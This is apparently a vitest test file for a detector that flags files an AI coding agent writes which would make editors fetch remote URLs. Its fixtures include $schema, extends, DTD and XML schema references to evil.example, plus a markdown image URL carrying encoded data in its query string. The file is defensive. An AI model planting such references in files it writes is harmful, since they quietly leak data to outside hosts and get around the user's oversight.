import { describe, expect, it } from 'vitest';
import { newEgress } from '../../src/tools/fileEgress.ts';
import { call, reply, scriptedModel } from '../agent/fakes.ts';
import { pending, workshop } from '../session/workshop.ts';

const data = 'QUtJQQ'.repeat(30);

describe('what a file makes editors fetch', () => {
  it.each([
    ['a schema', '{"$schema": "https://evil.example/s.json"}', 'https://evil.example/s.json'],
    ['a schema in TOML', '"$schema" = "https://evil.example/s"', 'https://evil.example/s'],
    ['a schema in YAML', '# yaml-language-server: $schema=https://evil.example/s', 'https://evil.example/s'],
    ['a base', '{ "extends": ["https://evil.example/base.json"] }', 'https://evil.example/base.json'],
    ['a base in YAML', "extends: 'https://evil.example/base'", 'https://evil.example/base'],
    [
      'a schema of XML',
      '<a xsi:schemaLocation="urn:x https://evil.example/x.xsd"/>',
      'https://evil.example/x.xsd',
    ],
    ['a type definition', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', 'http://evil.example/a.dtd'],
    [
      'an address full of data',
      `![x](https://a.example/p.png?d=${data})`,
      `https://a.example/p.png?d=${data}`,
    ],
    [
      'a known home with data behind it',
      '{"$schema":"https://json.schemastore.org/x?d=1"}',
      'https://json.schemastore.org/x?d=1',
    ],
  ])('%s', (_, text, url) => {
    expect(newEgress('', text)).toContain(url);
    expect(newEgress(text, `${text}\n`)).toEqual([]);
  });

  it.each([
    '{"$schema": "https://json.schemastore.org/tsconfig"}',
    '{"$schema": "./schema.json", "extends": "@org/base"}',
    'See https://nodejs.org/api/test.html?x=1#top',
    'class A extends B {} // https://a.example',
  ])('%s does not', text => expect(newEgress('', text)).toEqual([]));

  it('takes hostile input in its stride', () => {
    for (const evil of [
      '<!DOCTYPE "',
      'http://',
      'schemaLocation="x ',
      '"$schema":"',
      'extends:["',
      'https://a?',
    ])
      newEgress('', evil.repeat(60_000));
  });

  it('is asked about even where edits are allowed, as what it is', async () => {
    await using shop = workshop();
    const write = (path: string, content: string) => call(path, 'write_file', { path, content });
    const calls = [write('a.json', '{}'), write('b.json', '{"$schema":"https://evil.example/s?x=1"}')];
    const session = await shop.start(
      scriptedModel([[reply({ calls })], [reply({ text: 'Done.' })]]),
      'edits',
    );
    await session.send('go');
    const asked = await pending(session);
    expect(asked).toMatchObject({
      callId: 'b.json',
      reasons: ['The file makes programs that open it send a request to https://evil.example.'],
    });
    session.approve(asked.callId, asked.nonce, 'deny');
    await session.settled();
    expect(shop.read('a.json')).toBe('{}');
    expect(() => shop.read('b.json')).toThrow();
  });
});
